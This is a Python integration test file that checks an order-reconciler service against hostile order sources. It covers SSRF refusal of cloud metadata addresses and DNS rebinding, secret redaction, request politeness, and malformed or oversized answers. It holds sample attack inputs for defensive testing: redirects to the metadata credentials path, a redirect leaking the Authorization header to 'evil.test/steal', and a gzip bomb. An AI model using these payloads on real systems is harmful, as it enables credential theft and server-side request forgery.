"""A hostile order source against the real instance: where loops may connect, what becomes
of credentials, how politely sources are asked, and which answers are taken.

Each test runs a small source of its own on 127.0.0.1 that misbehaves per product id (each
config asks for its own product), and sometimes a raw TCP server for answers that HTTP
libraries will not write. Two stand-ins on the event loop keep every test on this machine:
names under test resolve through `dns` instead of the system's resolver, and any connection
to an address other than 127.0.0.1 is recorded and refused before it leaves (`elsewhere`),
so a product that failed to refuse one is caught without a packet being sent.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import logging
import os
import re
import socket
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from typing import Awaitable, Callable

import pytest
from aiohttp import web

from streams.configs import config_from_json_dict
from reconciler.addresses import AddressPolicy
from reconciler.source import OrderSource, PullFailed, RunIdentity
from tests.integration.harness import Deployment, config_doc, wait_for

pytestmark = pytest.mark.integration

METADATA_REFUSAL = (
    "it is in 169.254.0.0/16 (IPv4 link-local, where cloud metadata services answer), which "
    "RECONCILER_SOURCE_REFUSED_NETWORKS refuses; point source.url at another host or take the "
    "network out of that setting"
)

Behaviour = Callable[[web.Request, int], Awaitable[web.StreamResponse]]


@dataclass(frozen=True)
class Seen:
    at: float
    product: str
    cursor: str | None
    authorization: str | None


class HostileSource:
    """An HTTP order source on 127.0.0.1 whose answer to each product is a `Behaviour`,
    called with the request and how many requests for that product came before."""

    def __init__(self) -> None:
        self.behaviours: dict[str, Behaviour] = {}
        self.seen: list[Seen] = []
        self.in_flight = 0
        self.most_in_flight = 0
        self._runner: web.AppRunner | None = None
        self.port = 0

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/orders", self._answer)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = self._runner.addresses[0][1]

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/orders"

    def of(self, product: str) -> list[Seen]:
        return [s for s in self.seen if s.product == product]

    async def _answer(self, request: web.Request) -> web.StreamResponse:
        product = request.query.get("product_id", "")
        earlier = len(self.of(product))
        self.seen.append(Seen(time.time(), product, request.query.get("cursor"),
                              request.headers.get("Authorization")))
        self.in_flight += 1
        self.most_in_flight = max(self.most_in_flight, self.in_flight)
        try:
            behaviour = self.behaviours.get(product, empty_pages())
            return await behaviour(request, earlier)
        finally:
            self.in_flight -= 1


class RawSource:
    """A TCP server on 127.0.0.1 that reads a request head and then runs `script` on the
    connection; it records when each request came and when the client closed."""

    def __init__(self, script: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
        self._script = script
        self.requests: list[float] = []
        self.closed: list[float] = []
        self._server: asyncio.Server | None = None
        self._handlers: set[asyncio.Task] = set()

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)

    async def stop(self) -> None:
        assert self._server is not None
        self._server.close()
        for task in self._handlers:
            task.cancel()
        await asyncio.gather(*self._handlers, return_exceptions=True)

    @property
    def url(self) -> str:
        assert self._server is not None
        return f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}/orders"

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._handlers.add(asyncio.current_task())
        script: asyncio.Task | None = None
        try:
            await reader.readuntil(b"\r\n\r\n")
            self.requests.append(time.monotonic())
            script = asyncio.create_task(self._script(writer))
            await reader.read()  # b"" once the client closed its side
            self.closed.append(time.monotonic())
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            if script is not None:
                script.cancel()
            writer.close()


def empty_pages() -> Behaviour:
    async def answer(_request: web.Request, _earlier: int) -> web.StreamResponse:
        return web.json_response({"orders": [], "next_cursor": None})
    return answer


def paged(pages: dict[str | None, dict]) -> Behaviour:
    """The page named by the request's cursor; an empty page for any other cursor."""
    async def answer(request: web.Request, _earlier: int) -> web.StreamResponse:
        cursor = request.query.get("cursor")
        return web.json_response(pages.get(cursor, {"orders": [], "next_cursor": None}))
    return answer


def first_then(first: Behaviour, then: Behaviour, *, count: int = 1) -> Behaviour:
    async def answer(request: web.Request, earlier: int) -> web.StreamResponse:
        return await (first if earlier < count else then)(request, earlier)
    return answer


def status(code: int, **headers: str) -> Behaviour:
    async def answer(_request: web.Request, _earlier: int) -> web.StreamResponse:
        return web.Response(status=code, headers=headers)
    return answer


def raw_body(body: bytes, **headers: str) -> Behaviour:
    async def answer(_request: web.Request, _earlier: int) -> web.StreamResponse:
        return web.Response(body=body, headers=headers)
    return answer


# ---- keeping every test on this machine ---------------------------------------------------


@pytest.fixture(autouse=True)
async def elsewhere(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Addresses other than 127.0.0.1 that anything in this process tried to connect to;
    each attempt is refused here, before a packet is sent."""
    loop = asyncio.get_running_loop()
    attempts: list[str] = []
    sock_connect = loop.sock_connect

    async def only_loopback(sock: socket.socket, address: tuple) -> None:
        if address[0] != "127.0.0.1":
            attempts.append(address[0])
            raise ConnectionRefusedError(f"test: no connection to {address[0]} from here")
        return await sock_connect(sock, address)

    monkeypatch.setattr(loop, "sock_connect", only_loopback)
    return attempts


@pytest.fixture
async def dns(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    """Host name → addresses, answered in place of the system's resolver; the test may
    change an answer between two requests, as a rebinding DNS server would."""
    loop = asyncio.get_running_loop()
    answers: dict[str, list[str]] = {}
    getaddrinfo = loop.getaddrinfo

    async def answer(host, port, *args, **kwargs):
        if host not in answers:
            return await getaddrinfo(host, port, *args, **kwargs)
        return [
            (socket.AF_INET6, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (a, port, 0, 0))
            if ":" in a else
            (socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, "", (a, port))
            for a in answers[host]
        ]

    monkeypatch.setattr(loop, "getaddrinfo", answer)
    return answers


@pytest.fixture
async def hostile():
    source = HostileSource()
    await source.start()
    yield source
    await source.stop()


@pytest.fixture
async def raw_sources():
    started: list[RawSource] = []

    async def start(script: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> RawSource:
        source = RawSource(script)
        await source.start()
        started.append(source)
        return source

    yield start
    for source in started:
        await source.stop()


# ---- helpers -------------------------------------------------------------------------------


async def first_failure(deployment: Deployment, config_id: str) -> dict:
    failed = await wait_for(lambda: deployment.events_of(config_id, "failed"), timeout=30,
                            what=f"a failed event of {config_id}",
                            show=lambda: deployment.events_of(config_id))
    return failed[0]["data"]


async def settled_row(deployment: Deployment, config_id: str, error: str) -> dict:
    """The config's row once it records `error` (the event may arrive before the row)."""
    async def recorded():
        row = await deployment.row(config_id)
        return row if row and row["last_error"] == error else None
    return await wait_for(recorded, timeout=10, what=f"last_error of {config_id}")


async def publish_with_auth(deployment: Deployment, config_id: str, *, url: str,
                            auth: dict, **fields) -> None:
    doc = deployment.doc(config_id, url=url, **fields)
    doc["source"]["auth"] = auth
    await deployment.publish_raw(config_id.encode(), json.dumps(doc).encode())


def order_keys(deployment: Deployment, config_id: str) -> list[str]:
    return [r.key.decode() for r in deployment.orders_of(config_id)]


def event_time(event: dict) -> float:
    return datetime.fromisoformat(event["time"].replace("Z", "+00:00")).timestamp()


# ---- where loops may connect ---------------------------------------------------------------


async def test_metadata_addresses_are_refused_by_name_by_address_and_by_redirect(
    deployment: Deployment, hostile: HostileSource, dns: dict, elsewhere: list[str],
) -> None:
    dns["metadata.rebind.test"] = ["169.254.169.254"]
    hostile.behaviours["redirect"] = status(
        302, Location="http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    await deployment.start_instance()

    port = hostile.port
    await deployment.put("by-name", url=f"http://metadata.rebind.test:{port}/orders")
    await deployment.put("by-address", url="http://169.254.169.254/latest/meta-data/")
    await deployment.put("mapped", url="http://[::ffff:169.254.169.254]/latest/meta-data/")
    await deployment.put("ipv6-metadata", url="http://[fd00:ec2::254]/latest/meta-data/")
    await deployment.put("redirect", url=hostile.url, product="redirect")

    expected = {
        "by-name": "refused to connect to 169.254.169.254, an address of metadata.rebind.test: "
                   + METADATA_REFUSAL,
        "by-address": "refused to connect to 169.254.169.254: " + METADATA_REFUSAL,
        "mapped": "refused to connect to ::ffff:169.254.169.254: " + METADATA_REFUSAL,
        "ipv6-metadata": (
            "refused to connect to fd00:ec2::254: it is in fd00:ec2::254/128 (the AWS metadata "
            "service over IPv6), which RECONCILER_SOURCE_REFUSED_NETWORKS refuses; point "
            "source.url at another host or take the network out of that setting"),
        "redirect": (
            "source answered HTTP 302, a redirect to "
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/; redirects are "
            "not followed: point source.url at where the source is"),
    }
    for config_id, error in expected.items():
        failed = await first_failure(deployment, config_id)
        assert failed["error"] == error
        row = await settled_row(deployment, config_id, error)
        assert row["state"] == "backoff"

    await asyncio.sleep(1.0)  # orders of a wrongly allowed pull would have arrived by now
    assert elsewhere == []
    assert [order_keys(deployment, c) for c in expected] == [[]] * len(expected)
    assert {s.product for s in hostile.seen} == {"redirect"}


@pytest.mark.parametrize("setting, value, error", [
    ("source_refused_networks", "169.254.0.0/16,fe80::/10,127.0.0.0/8,::1/128",
     r"refused to connect to (127\.0\.0\.1|::1), an address of localhost: it is in "
     r"(127\.0\.0\.0/8|::1/128), which RECONCILER_SOURCE_REFUSED_NETWORKS refuses; "),
    ("source_allowed_networks", "10.0.0.0/8",
     r"refused to connect to (127\.0\.0\.1|::1), an address of localhost: it is in none of "
     r"RECONCILER_SOURCE_ALLOWED_NETWORKS \(10\.0\.0\.0/8\); point source.url at an allowed host"),
    ("source_allowed_hosts", "orders.example.com",
     r"source host localhost is not in RECONCILER_SOURCE_ALLOWED_HOSTS; point source.url at an "
     r"allowed host or add this one to that setting$"),
], ids=["refused-networks", "allowed-networks", "allowed-hosts"])
async def test_loopback_is_closed_by_the_settings_that_close_it(
    deployment: Deployment, hostile: HostileSource, setting: str, value: str, error: str,
) -> None:
    hostile.behaviours["local"] = paged({None: {"orders": [{"id": "x"}], "next_cursor": "c"}})
    await deployment.start_instance(**{setting: value})

    await deployment.put("local", url=f"http://localhost:{hostile.port}/orders", product="local")

    failed = await first_failure(deployment, "local")
    assert re.match(error, failed["error"]), failed["error"]
    await settled_row(deployment, "local", failed["error"])
    await asyncio.sleep(1.0)
    assert hostile.seen == []
    assert order_keys(deployment, "local") == []


async def test_a_name_rebound_to_a_refused_address_is_refused_at_the_next_connection(
    hostile: HostileSource, dns: dict, elsewhere: list[str],
) -> None:
    async def closing_page(_request: web.Request, _earlier: int) -> web.StreamResponse:
        # No keep-alive: every request needs a new connection, so a new lookup.
        return web.json_response({"orders": [], "next_cursor": None},
                                 headers={"Connection": "close"})

    hostile.behaviours["p"] = closing_page
    url = f"http://orders.rebind.test:{hostile.port}/orders"
    config = config_from_json_dict(config_doc("c", url=url, product="p"))
    run = RunIdentity(config_id="c", run_id="r", fence=1)
    source = OrderSource(secrets_dir=None, policy=AddressPolicy(), dns_cache_seconds=None)
    await source.start()
    try:
        dns["orders.rebind.test"] = ["127.0.0.1"]
        await source.fetch_page(config, run=run, cursor=None)

        dns["orders.rebind.test"] = ["169.254.169.254"]
        with pytest.raises(PullFailed) as refused:
            await source.fetch_page(config, run=run, cursor=None)

        dns["orders.rebind.test"] = ["169.254.169.254", "127.0.0.1"]
        await source.fetch_page(config, run=run, cursor=None)
    finally:
        await source.close()

    assert str(refused.value) == ("refused to connect to 169.254.169.254, an address of "
                                  "orders.rebind.test: " + METADATA_REFUSAL)
    assert len(hostile.of("p")) == 2
    assert elsewhere == []


# ---- credentials ---------------------------------------------------------------------------


async def test_no_secret_reaches_a_log_event_span_status_record_or_error(
    deployment: Deployment, hostile: HostileSource, raw_sources, spans, tmp_path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    token = f"tok-{uuid.uuid4().hex}"
    password = f"pw-{uuid.uuid4().hex}"
    basic = base64.b64encode(f"shop-user:{password}".encode()).decode()
    forms = [token, password, basic]
    (tmp_path / "shop-bearer").write_text(token + "\n")
    (tmp_path / "shop-basic").write_text(f"shop-user:{password}\n")
    bearer_auth = {"type": "bearer", "secret": "shop-bearer"}
    basic_auth = {"type": "basic", "secret": "shop-basic"}

    async def redirect_echoing(request: web.Request, _earlier: int) -> web.StreamResponse:
        return web.Response(status=302, headers={
            "Location": f"https://evil.test/steal?t={request.headers['Authorization']}"})

    async def order_echoing(request: web.Request, _earlier: int) -> web.StreamResponse:
        echoed = {"id": "o1", "seen": request.headers["Authorization"]}
        return web.json_response({"orders": [echoed], "next_cursor": "c1"})

    async def escaped_echoing(request: web.Request, _earlier: int) -> web.StreamResponse:
        spelled = "".join(f"\\u{ord(c):04x}" for c in request.headers["Authorization"])
        return web.Response(body=b'{"orders": [{"id": "' + spelled.encode() +
                            b'"}], "next_cursor": "c1"}')

    async def cursor_echoing(request: web.Request, _earlier: int) -> web.StreamResponse:
        return web.json_response({"orders": [{"id": "o1"}], "next_cursor": token})

    async def status_line_echoing(writer: asyncio.StreamWriter) -> None:
        writer.write(f"HTTP/1.1 2x0 {token}\r\nContent-Length: 0\r\n\r\n".encode())

    hostile.behaviours["redirect"] = first_then(
        paged({None: {"orders": [{"id": "r1"}], "next_cursor": "c1"}}), redirect_echoing)
    hostile.behaviours["order-echo"] = order_echoing
    hostile.behaviours["cursor-echo"] = cursor_echoing
    hostile.behaviours["escaped-echo"] = escaped_echoing
    bad_line = await raw_sources(status_line_echoing)
    await deployment.start_instance(secrets_dir=str(tmp_path))

    await publish_with_auth(deployment, "redirect", url=hostile.url, auth=bearer_auth,
                            product="redirect")
    await publish_with_auth(deployment, "order-echo", url=hostile.url, auth=basic_auth,
                            product="order-echo")
    await publish_with_auth(deployment, "cursor-echo", url=hostile.url, auth=bearer_auth,
                            product="cursor-echo")
    await publish_with_auth(deployment, "escaped-echo", url=hostile.url, auth=bearer_auth,
                            product="escaped-echo")
    await publish_with_auth(deployment, "status-line", url=bad_line.url, auth=bearer_auth)
    await publish_with_auth(deployment, "missing", url=hostile.url, product="missing",
                            auth={"type": "bearer", "secret": "shop-43-token"})

    errors = {c: (await first_failure(deployment, c))["error"]
              for c in ("redirect", "order-echo", "cursor-echo", "escaped-echo", "status-line",
                        "missing")}
    await wait_for(lambda: deployment.orders_of("redirect"), timeout=10,
                   what="the order of the page before the redirect")
    await asyncio.sleep(1.0)

    # The secrets were sent: the grep below looks for something that was there to leak.
    assert {s.authorization for s in hostile.of("redirect")} == {f"Bearer {token}"}
    assert {s.authorization for s in hostile.of("order-echo")} == {f"Basic {basic}"}
    assert errors == {
        "redirect": "source answered HTTP 302, a redirect to https://evil.test/steal?t=Bearer "
                    "***; redirects are not followed: point source.url at where the source is",
        "order-echo": "source's answer holds the value of secret 'shop-basic' that was sent "
                      "with the request; nothing of it is published",
        "cursor-echo": "source's answer holds the value of secret 'shop-bearer' that was sent "
                       "with the request; nothing of it is published",
        "escaped-echo": "source's answer holds the value of secret 'shop-bearer' that was "
                        "sent with the request; nothing of it is published",
        "status-line": errors["status-line"],
        "missing": f"secret 'shop-43-token' is missing: there is no file 'shop-43-token' in "
                   f"RECONCILER_SECRETS_DIR ({tmp_path})",
    }
    assert errors["status-line"].startswith("source's answer could not be read: 400, message=")
    assert "2x0 ***" in errors["status-line"]
    assert hostile.of("missing") == []

    status = await asyncio.to_thread(subprocess.run, [
        sys.executable, "-m", "reconciler.cli", "status", "--json"], capture_output=True,
        text=True, timeout=120, env={
            **os.environ,
            "KAFKA_BOOTSTRAP_SERVERS": deployment.settings.kafka_bootstrap_servers,
            "DATABASE_URL": deployment.settings.database_url,
            "RECONCILER_TOPIC_PREFIX": deployment.settings.topic_prefix,
        })
    rows = [await deployment.row(c) for c in errors]
    span_texts = [json.dumps([s.name, dict(s.attributes or {}),
                              [(e.name, dict(e.attributes or {})) for e in s.events],
                              s.status.description], default=str)
                  for s in spans.get_finished_spans()]
    written = {
        "logs": caplog.text + "\n".join(str(r.__dict__) for r in caplog.records),
        "events": json.dumps(deployment.events),
        "status": status.stdout + status.stderr,
        "rows": json.dumps(rows, default=str),
        "spans": "\n".join(span_texts),
        "orders": repr([(r.key, r.value, r.headers) for r in deployment.orders]),
    }
    assert status.returncode == 0, status.stderr
    assert "run failed: source answered HTTP 302" in written["logs"]
    assert all(config_id in written["status"] for config_id in errors)
    assert any('"GET"' in text and "order-echo" in text for text in span_texts)
    assert b"r1" in deployment.orders_of("redirect")[0].value
    leaks = {where: [f for f in forms if f in text] for where, text in written.items()}
    assert leaks == {where: [] for where in written}


async def test_a_rotated_secret_is_used_without_a_restart_and_a_removed_one_fails_the_run(
    deployment: Deployment, hostile: HostileSource, tmp_path,
) -> None:
    secret = tmp_path / "shop-token"
    secret.write_text("tok-first-0001\n")
    await deployment.start_instance(secrets_dir=str(tmp_path))
    await publish_with_auth(deployment, "c1", url=hostile.url, product="p", interval=0.2,
                            auth={"type": "bearer", "secret": "shop-token"})
    await wait_for(lambda: len(hostile.of("p")) >= 2, timeout=20, what="pulls with the secret")

    # Replaced by rename, as a mounted secret folder does it.
    replacement = tmp_path / ".shop-token.new"
    replacement.write_text("tok-second-0002\n")
    replacement.replace(secret)
    await wait_for(lambda: hostile.of("p")[-1].authorization == "Bearer tok-second-0002",
                   timeout=10, what="a pull with the rotated secret")
    secret.unlink()
    failed = await first_failure(deployment, "c1")

    assert [e["type"] for e in deployment.events_of("c1")][:1] == ["pull.task.started"]
    assert len(deployment.events_of("c1", "started")) == 1  # the rotation restarted nothing
    assert {s.authorization for s in hostile.of("p")} == {"Bearer tok-first-0001",
                                                          "Bearer tok-second-0002"}
    assert failed["error"] == (f"secret 'shop-token' is missing: there is no file "
                               f"'shop-token' in RECONCILER_SECRETS_DIR ({tmp_path})")
    await settled_row(deployment, "c1", failed["error"])


# ---- politeness ----------------------------------------------------------------------------


async def test_requests_to_one_host_are_capped(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    async def slow(_request: web.Request, _earlier: int) -> web.StreamResponse:
        await asyncio.sleep(0.4)
        return web.json_response({"orders": [], "next_cursor": None})

    for n in range(9):
        hostile.behaviours[f"p{n}"] = slow
    await deployment.start_instance(source_max_requests_per_host=3)

    for n in range(9):
        await deployment.put(f"c{n}", url=hostile.url, product=f"p{n}", interval=0.3,
                             timeout=10)
    await wait_for(lambda: len(hostile.seen) >= 40, timeout=60, what="40 requests")

    print(f"most requests in flight at once: {hostile.most_in_flight}")
    assert hostile.most_in_flight == 3
    assert all(not deployment.events_of(f"c{n}", "failed") for n in range(9))


async def test_a_cookie_one_source_sets_never_reaches_the_requests_of_another_config(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    async def sets_a_cookie(_request: web.Request, _earlier: int) -> web.StreamResponse:
        response = web.json_response({"orders": [], "next_cursor": None})
        response.set_cookie("tenant_a_session", "SESSION-OF-TENANT-A", path="/")
        return response

    cookies: list[str | None] = []

    async def reads_cookies(request: web.Request, _earlier: int) -> web.StreamResponse:
        cookies.append(request.headers.get("Cookie"))
        return web.json_response({"orders": [], "next_cursor": None})

    hostile.behaviours["setter"] = sets_a_cookie
    hostile.behaviours["reader"] = reads_cookies
    await deployment.start_instance()
    # A host name, not an address: cookie jars refuse cookies from IP addresses.
    url = f"http://localhost:{hostile.port}/orders"
    await deployment.put("setter", url=url, product="setter", interval=0.2)
    await wait_for(lambda: len(hostile.of("setter")) >= 3, timeout=30, what="cookies set")
    await deployment.put("reader", url=url, product="reader", interval=0.2)
    await wait_for(lambda: len(cookies) >= 5, timeout=30, what="requests of the other config")
    assert cookies[:5] == [None] * 5
    assert len(hostile.of("setter")) >= 5  # and the setter's own requests carry none either


async def test_retry_after_in_seconds_or_as_a_date_delays_the_next_run_up_to_the_cap(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    async def busy_until_a_date(_request: web.Request, _earlier: int) -> web.StreamResponse:
        # Whole seconds: the header says between 6 and 7 s from now.
        later = datetime.now(timezone.utc) + timedelta(seconds=7)
        return web.Response(status=503,
                            headers={"Retry-After": format_datetime(later, usegmt=True)})

    hostile.behaviours["seconds"] = first_then(status(429, **{"Retry-After": "4"}), empty_pages())
    hostile.behaviours["date"] = first_then(busy_until_a_date, empty_pages())
    hostile.behaviours["huge"] = status(429, **{"Retry-After": "100000"})
    hostile.behaviours["none"] = first_then(status(503), empty_pages())
    await deployment.start_instance(backoff_max_seconds=20.0)

    for product in ("seconds", "date", "huge", "none"):
        await deployment.put(product, url=hostile.url, product=product, interval=0.5)
    failures = {p: await first_failure(deployment, p) for p in ("seconds", "date", "huge", "none")}
    await wait_for(lambda: all(len(hostile.of(p)) >= 2 for p in ("seconds", "date", "none")),
                   timeout=30, what="the requests of the next runs")
    gaps = {p: hostile.of(p)[1].at - hostile.of(p)[0].at for p in ("seconds", "date", "none")}
    print(f"delays before the next run's first request: {gaps}")

    assert failures["seconds"]["error"] == "source answered HTTP 429 and asked to wait 4 s " \
                                           "(Retry-After)"
    assert failures["seconds"]["retry_in_seconds"] >= 4.0
    assert gaps["seconds"] >= 4.0
    assert failures["date"]["error"] in {f"source answered HTTP 503 and asked to wait {n} s "
                                         f"(Retry-After)" for n in (6, 7)}
    assert failures["date"]["retry_in_seconds"] >= 5.5
    assert gaps["date"] >= 5.5
    assert failures["huge"]["retry_in_seconds"] == 20.0
    # Without Retry-After the first backoff is about a second: the header made the difference.
    assert failures["none"]["error"] == "source answered HTTP 503"
    assert failures["none"]["retry_in_seconds"] < 2.0
    assert gaps["none"] < 4.0


async def test_many_configs_of_one_host_started_at_once_first_pull_spread_by_the_jitter(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    # Interval 30 s: the contract's jitter is up to 3 s.
    await deployment.start_instance()
    ids = [f"c{n:02}" for n in range(20)]
    for config_id in ids:
        await deployment.put(config_id, url=hostile.url, product=config_id, interval=30)
    await wait_for(lambda: all(hostile.of(c) for c in ids), timeout=30,
                   what="the first pull of every config")

    started = {c: event_time(deployment.events_of(c, "started")[0]) for c in ids}
    delays = sorted(hostile.of(c)[0].at - started[c] for c in ids)
    print(f"starts within {max(started.values()) - min(started.values()):.2f} s; first pulls "
          f"after their start: {[round(d, 2) for d in delays]}")

    assert max(started.values()) - min(started.values()) < 3.0
    assert delays[0] >= -0.1 and delays[-1] <= 3.0 + 1.0
    assert delays[-1] - delays[0] >= 1.5
    assert len({int(d / 0.5) for d in delays}) >= 4


# ---- answers -------------------------------------------------------------------------------


async def test_oversized_slow_and_malformed_answers_are_failed_pulls_that_publish_nothing(
    deployment: Deployment, hostile: HostileSource, raw_sources,
) -> None:
    cap = 65536
    big = json.dumps({"orders": [], "pad": "x" * 200_000}).encode()
    bomb = gzip.compress(b'{"orders": [], "pad": "' + b"0" * 50_000_000 + b'"}')

    async def chunked(request: web.Request, _earlier: int) -> web.StreamResponse:
        response = web.StreamResponse()
        response.enable_chunked_encoding()
        await response.prepare(request)
        for _ in range(10):
            await response.write(b" " * 20_000)
        await response.write_eof()
        return response

    async def trickle(writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 1000\r\n\r\n{")
        for _ in range(600):
            await asyncio.sleep(0.1)
            writer.write(b" ")

    async def silent(_writer: asyncio.StreamWriter) -> None:
        await asyncio.sleep(60)

    hostile.behaviours["big"] = raw_body(big, **{"Content-Type": "application/json"})
    hostile.behaviours["chunked"] = chunked
    hostile.behaviours["bomb"] = raw_body(bomb, **{"Content-Encoding": "gzip",
                                                   "Content-Type": "application/json"})
    hostile.behaviours["html"] = raw_body(b"<html>maintenance</html>",
                                          **{"Content-Type": "text/html"})
    hostile.behaviours["shape"] = raw_body(b'{"orders": {"id": "o1"}, "next_cursor": "c"}')
    hostile.behaviours["late"] = paged({
        None: {"orders": [{"id": "a"}, {"id": "b"}], "next_cursor": "c1"},
        "c1": {"orders": [{"id": "c"}], "next_cursor": None},
    })
    trickling = await raw_sources(trickle)
    silence = await raw_sources(silent)
    await deployment.start_instance(source_max_body_bytes=cap)

    for product in ("big", "chunked", "bomb", "html", "shape", "late"):
        await deployment.put(product, url=hostile.url, product=product, interval=0.5)
    await deployment.put("trickle", url=trickling.url, interval=0.5, timeout=1)
    await deployment.put("silent", url=silence.url, interval=0.5, timeout=1)

    expected = {
        "big": f"source body is {len(big)} bytes, over the {cap}-byte limit "
               f"(RECONCILER_SOURCE_MAX_BODY_BYTES)",
        "chunked": f"source body is over the {cap}-byte limit (RECONCILER_SOURCE_MAX_BODY_BYTES)",
        "bomb": f"source body is over the {cap}-byte limit (RECONCILER_SOURCE_MAX_BODY_BYTES)",
        "html": "source body is not JSON",
        "shape": "source body has no 'orders' list",
        "late": "source returned orders with a null 'next_cursor'",
        "trickle": "source did not answer within 1 s",
        "silent": "source did not answer within 1 s",
    }
    errors = {c: (await first_failure(deployment, c))["error"] for c in expected}
    for config_id, error in errors.items():
        await settled_row(deployment, config_id, error)
    await asyncio.sleep(1.0)
    cut_after = [closed - asked for asked, closed in zip(trickling.requests, trickling.closed)]
    print(f"the trickling source's connections were closed after {cut_after} s")

    assert errors == expected
    assert cut_after and all(0.9 <= t <= 2.5 for t in cut_after)
    assert sorted(order_keys(deployment, "late")) == ["shop-1:a", "shop-1:b"]
    assert (await deployment.row("late"))["cursor"] == "c1"
    assert [c for c in expected if c != "late" and order_keys(deployment, c)] == []


async def test_paging_stops_when_the_cursor_does_not_advance_or_pages_run_past_the_cap(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    async def endless(request: web.Request, _earlier: int) -> web.StreamResponse:
        n = int(request.query.get("cursor", "0"))
        return web.json_response({"orders": [{"id": f"e{n}"}], "next_cursor": str(n + 1)})

    hostile.behaviours["stuck"] = paged({
        None: {"orders": [{"id": "s1"}, {"id": "s2"}], "next_cursor": "c1"},
        "c1": {"orders": [{"id": "s1"}, {"id": "s2"}], "next_cursor": "c1"},
    })
    hostile.behaviours["endless"] = endless
    hostile.behaviours["repeats"] = paged({
        None: {"orders": [{"id": "a"}, {"id": "b"}, {"id": "a"}], "next_cursor": "c1"},
        "c1": {"orders": [{"id": "b"}, {"id": "c"}], "next_cursor": "c2"},
        "c2": {"orders": [{"id": "a"}], "next_cursor": "c3"},
    })
    await deployment.start_instance(source_max_pages_per_pull=5)

    for product in ("stuck", "endless", "repeats"):
        await deployment.put(product, url=hostile.url, product=product, interval=0.5)
    stuck = await first_failure(deployment, "stuck")
    endless_failed = await first_failure(deployment, "endless")
    await wait_for(lambda: len(deployment.orders_of("endless")) >= 10, timeout=30,
                   what="orders of the next run of the endless source")
    await wait_for(lambda: len(hostile.of("repeats")) >= 6, timeout=30,
                   what="a second pull of the repeating source")
    await asyncio.sleep(1.0)

    assert stuck["error"] == (
        "source's next_cursor did not advance: page 2 of this pull has 2 orders and a cursor "
        "this pull already used; paging stopped and nothing of that page was published")
    assert sorted(order_keys(deployment, "stuck")) == ["shop-1:s1", "shop-1:s2"]
    assert (await deployment.row("stuck"))["cursor"] == "c1"

    assert endless_failed["error"] == (
        "source still had orders after 5 pages in one pull "
        "(RECONCILER_SOURCE_MAX_PAGES_PER_PULL); paging stopped, and the next run goes on "
        "from the saved cursor")
    endless_keys = order_keys(deployment, "endless")
    assert endless_keys[:5] == [f"shop-1:e{n}" for n in range(5)]
    assert len(endless_keys) == len(set(endless_keys))  # each run went on, none went back

    assert sorted(order_keys(deployment, "repeats")) == ["shop-1:a", "shop-1:b", "shop-1:c"]
    assert (await deployment.row("repeats"))["cursor"] == "c3"
    assert deployment.events_of("repeats", "failed") == []


async def test_an_order_larger_than_the_broker_takes_is_a_failed_pull_that_names_it(
    deployment: Deployment, hostile: HostileSource,
) -> None:
    hostile.behaviours["big"] = paged({None: {
        "orders": [{"id": "small", "x": 1}, {"id": "huge", "x": "y" * 1_500_000}],
        "next_cursor": "c1",
    }})
    await deployment.start_instance()
    await deployment.put("big", url=hostile.url, product="big", interval=0.2)

    failed = await first_failure(deployment, "big")
    assert "order 'huge' is" in failed["error"]
    assert "more than the broker takes" in failed["error"]
    row = await deployment.row("big")
    assert row["cursor"] is None
